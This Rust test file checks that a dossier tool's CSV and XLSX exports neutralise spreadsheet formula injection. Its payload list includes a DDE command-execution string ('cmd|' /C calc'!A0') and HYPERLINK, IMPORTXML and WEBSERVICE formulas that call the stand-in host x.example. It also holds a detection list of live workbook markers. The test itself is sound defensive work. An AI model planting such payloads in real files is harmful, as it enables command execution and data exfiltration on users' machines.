//! Cells that a spreadsheet would run: in every text of a dossier, and in every table that leaves it.

use std::fs;
use std::io::Read as _;
use std::path::{Path, PathBuf};

use croisee_tests::Result;
use croisee_tests::command_line::croisee;

/// What begins a formula somewhere.
const BEGINNINGS: [&str; 10] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " ="];
/// What it would then do. Each bears the mark by which it is found again.
const DEEDS: [&str; 6] = [
    "1+1 MARQUE",
    "cmd|' /C calc'!A0 MARQUE",
    "HYPERLINK(\"http://x.example/?MARQUE\";\"y\")",
    "IMPORTXML(\"http://x.example/\";\"//MARQUE\")",
    "WEBSERVICE(\"http://x.example/MARQUE\")",
    "SUM(A1:A9)*MARQUE",
];

fn payloads() -> Vec<String> {
    let each = BEGINNINGS.iter();
    each.flat_map(|begin| DEEDS.map(|deed| format!("{begin}{deed}")))
        .collect()
}

/// A table of an archive: its heads, and a row for each payload, made from its number and itself.
fn table(heads: &str, row: impl Fn(usize, &str) -> Vec<String>) -> String {
    let quoted = |cell: &String| format!("\"{}\"", cell.replace('"', "\"\""));
    let rows = payloads().into_iter().enumerate().map(|(n, payload)| {
        let cells: Vec<String> = row(n, &payload).iter().map(quoted).collect();
        format!("{}\n", cells.join(";"))
    });
    format!("{heads}\n{}", rows.collect::<String>())
}

/// An archive whose every free text is a payload.
fn archive(folder: &Path) -> Result {
    let cells =
        |cells: &[&str]| -> Vec<String> { cells.iter().map(|cell| (*cell).to_owned()).collect() };
    fs::create_dir_all(folder.join("tableaux"))?;
    let grid = table("\"=tête\";b", |_, p| cells(&[p, p]));
    for (name, text) in [
        ("manifeste.json", super::MANIFEST.replace("Épreuve", "=1+1")),
        (
            "spheres.csv",
            "code;nom;nom_singulier\nres;=Réseaux;=un réseau\n".to_owned(),
        ),
        (
            "cadre.csv",
            "code;nom;dimension\nvol;=Trésorerie;volet\n".to_owned(),
        ),
        (
            "espaces.csv",
            "code;titre;modele\nesp;=Espace;bilan\n".to_owned(),
        ),
        (
            "phases.csv",
            table("code;nom;debut;objectif", |n, p| {
                cells(&[&format!("f{n}"), p, "2020-03", p])
            }),
        ),
        (
            "organisations.csv",
            table(
                "code;nom;sigle;sphere;profil;echelon;territoire;site;notes",
                |n, p| cells(&[&format!("o{n}"), p, p, "res", p, p, p, p, p]),
            ),
        ),
        (
            "personnes.csv",
            table(
                "code;nom;prenom;organisation;fonction;courriel;telephone",
                |n, p| cells(&[&format!("p{n}"), p, p, &format!("o{n}"), p, p, p]),
            ),
        ),
        (
            "entretiens.csv",
            table(
                "code;date;organisation;personnes;facilitateurs;espaces;statut",
                |n, p| {
                    cells(&[
                        &format!("e{n}"),
                        "2020-05-11",
                        &format!("o{n}"),
                        &format!("p{n}"),
                        &p.replace('|', "/"),
                        "esp",
                        "tenu",
                    ])
                },
            ),
        ),
        (
            "rencontres.csv",
            table("code;espace;date;titre", |n, p| {
                cells(&[&format!("r{n}"), "esp", "2020-06-02", p])
            }),
        ),
        (
            "suites.csv",
            table("code;entretien;nature;texte", |n, p| {
                cells(&[&format!("s{n}"), &format!("e{n}"), "autre", p])
            }),
        ),
        (
            "inventaire.csv",
            table(
                "code;nature;volet;titre;description;porteur;type_porteur;echelle;territoire;filiere;url;source",
                |n, p| cells(&[&format!("i{n}"), "besoin", "vol", p, p, p, p, p, p, p, p, p]),
            ),
        ),
        (
            "livrables.csv",
            "code;espace;titre;modele\nliv;esp;=Livrable;bilan\n".to_owned(),
        ),
        (
            "relais.csv",
            table(
                "code;livrable;nature;nom;date_texte;public;suites",
                |n, p| cells(&[&format!("l{n}"), "liv", p, p, p, p, p]),
            ),
        ),
        (
            "envois.csv",
            table("date;objet;destinataire;moyen", |n, p| {
                cells(&["2020-09-01", p, &format!("{p} {n}"), p])
            }),
        ),
        (
            "mesures.csv",
            table(
                "code;numero;dimension;intitule;chantier;horizon;porteur;statut;suites",
                |n, p| {
                    cells(&[
                        &format!("m{n}"),
                        &n.to_string(),
                        "politique",
                        p,
                        p,
                        p,
                        p,
                        p,
                        p,
                    ])
                },
            ),
        ),
        (
            "tableaux.csv",
            "code;espace;section;titre\ng;esp;enjeu;=Tableau\n".to_owned(),
        ),
        ("tableaux/g.csv", grid),
    ] {
        fs::write(folder.join(name), text)?;
    }
    Ok(())
}

/// Every file of a folder, however deep.
fn files(folder: &Path) -> Result<Vec<PathBuf>> {
    Ok(crate::archives::files(folder)?
        .into_keys()
        .map(|path| folder.join(path))
        .collect())
}

/// How many payloads a table of text holds; fails where one is live.
fn in_text(path: &Path, bytes: &[u8]) -> Result<usize> {
    let mut read = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes));
    let mut found = 0;
    for record in read.records() {
        for cell in &record? {
            let shown = cell
                .trim_start_matches(|c: char| c.is_whitespace() || "\u{200b}\u{feff}".contains(c));
            // A number is one, and harms nobody.
            let live = shown.starts_with(['=', '@', '＝', '＠'])
                || cell.starts_with(['+', '-', '＋', '－', '\t', '\r', '\n'])
                    && cell.parse::<f64>().is_err();
            if live {
                return Err(format!("{}: {cell:?}", path.display()).into());
            }
            found += usize::from(cell.contains("MARQUE"));
        }
    }
    Ok(found)
}

/// How many payloads a workbook holds; fails where it holds a formula, or a link that no browser would follow.
fn in_workbook(path: &Path, bytes: &[u8]) -> Result<usize> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes))?;
    let mut found = 0;
    for at in 0..zip.len() {
        let mut part = String::new();
        let mut entry = zip.by_index(at)?;
        let name = entry.name()?.into_owned();
        entry.read_to_string(&mut part)?;
        for live in [
            "<f>",
            "<f ",
            "externalLink",
            "ddeLink",
            "<oleLink",
            "<hyperlink",
        ] {
            if part.contains(live) {
                return Err(format!("{} {name}: {live}", path.display()).into());
            }
        }
        found += part.matches("MARQUE").count();
    }
    Ok(found)
}

#[test]
fn no_cell_of_any_table_that_leaves_is_run_by_a_spreadsheet() -> Result {
    assert!(payloads().len() >= 50);
    let folder = tempfile::tempdir()?;
    let (from, dossier) = (folder.path().join("a"), folder.path().join("d.croisee"));
    fs::create_dir(&from)?;
    archive(&from)?;
    crate::archives::create(&dossier, &from)?;
    // Names of those who may not be named are taken out of what is shared: there the same words are nobody's name.
    for file in [
        "organisations.csv",
        "personnes.csv",
        "entretiens.csv",
        "suites.csv",
    ] {
        fs::remove_file(from.join(file))?;
    }
    let nameless = folder.path().join("sans-noms.croisee");
    crate::archives::create(&nameless, &from)?;
    let [dossier, nameless] = [&dossier, &nameless].map(|path| path.to_str().unwrap_or_default());
    let mut found = Vec::new();
    let mut export = |dossier: &str, name: &str, arguments: &[&str], least: usize| -> Result {
        let out = folder.path().join(name);
        let mut all = vec!["export", dossier];
        all.extend(arguments);
        all.extend([
            "--date",
            "2020-09-07",
            "--out",
            out.to_str().ok_or("a plain path")?,
        ]);
        croisee(&all)?.exits(0)?;
        for path in files(&out)? {
            let bytes = fs::read(&path)?;
            let ending = path
                .extension()
                .unwrap_or_default()
                .to_string_lossy()
                .into_owned();
            let count = match ending.as_str() {
                "csv" => in_text(&path, &bytes)?,
                "xlsx" => in_workbook(&path, &bytes)?,
                _ => continue,
            };
            found.push((name.to_owned(), ending, count, least));
        }
        Ok(())
    };
    for (table, least) in [
        ("entretiens", 40),
        ("participants", 40),
        ("rencontres", 40),
        ("suites", 40),
        ("inventaire", 40),
        ("croisee", 0),
        ("tableaux", 40),
        ("relais", 40),
        ("envois", 40),
        ("mesures", 40),
        ("frise", 40),
    ] {
        for format in ["csv", "xlsx"] {
            export(
                dossier,
                &format!("{table}-{format}"),
                &["table", "--table", table, "--format", format],
                least,
            )?;
        }
    }
    export(nameless, "donnees", &["sharing", "--way", "donnees"], 0)?;
    // What was looked for was there to be found; a workbook holds the same words once, and blanks before them are lost.
    for (name, ending, count, least) in &found {
        assert!(count >= least, "{name} ({ending}): {count} of {least}");
    }
    let shared = found.iter().filter(|(name, ..)| name == "donnees");
    assert!(
        shared
            .clone()
            .any(|(_, ending, count, _)| ending == "csv" && *count >= 40)
    );
    assert!(
        shared
            .clone()
            .any(|(_, ending, count, _)| ending == "xlsx" && *count >= 40)
    );
    Ok(())
}
